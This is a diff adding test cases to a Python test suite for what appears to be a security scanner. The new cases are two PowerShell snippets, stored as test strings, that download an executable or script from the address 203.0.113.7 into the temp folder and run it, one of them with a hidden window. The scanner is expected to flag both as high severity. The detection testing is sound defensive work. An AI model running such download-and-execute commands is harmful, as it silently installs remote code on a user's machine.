@@ -164,3 +164,11 @@ def test_go_writes_to_a_dialled_connection():
     assert top("main.go", text, "IG703") == Severity.CRITICAL
     quiet = 'package main\nfunc main() {\n\tconn, _ := net.Dial("tcp", "localhost:6379")\n\tconn.Write([]byte("PING\\r\\n"))\n}\n'
     assert top("main.go", quiet, "IG703") is None
+
+
+@pytest.mark.parametrize("text", [
+    '$p = Join-Path $env:TEMP "helper.exe"\nInvoke-WebRequest -Uri "https://203.0.113.7/helper.exe" -OutFile $p\nStart-Process -FilePath $p -WindowStyle Hidden\n',
+    '$u = "https://203.0.113.7/setup.ps1"\n$f = "$env:TEMP\\setup.ps1"\n(New-Object Net.WebClient).DownloadFile($u, $f)\n& $f\n',
+])
+def test_powershell_download_saved_to_a_variable_then_run(text):
+    assert top("setup.ps1", text, "IG701") in HIGH
